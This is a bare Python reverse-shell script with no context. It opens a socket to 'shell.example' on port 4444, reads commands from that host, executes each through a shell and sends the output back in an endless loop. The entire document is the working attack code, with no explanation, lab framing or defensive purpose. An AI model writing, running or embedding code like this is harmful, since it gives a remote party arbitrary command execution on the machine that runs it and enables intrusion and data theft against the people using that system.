# loop: received, run, answered
import socket
import subprocess

s = socket.socket()
s.connect(("shell.example", 4444))
while True:
    command = s.recv(1024).decode()
    output = subprocess.check_output(command, shell=True)
    s.send(output)
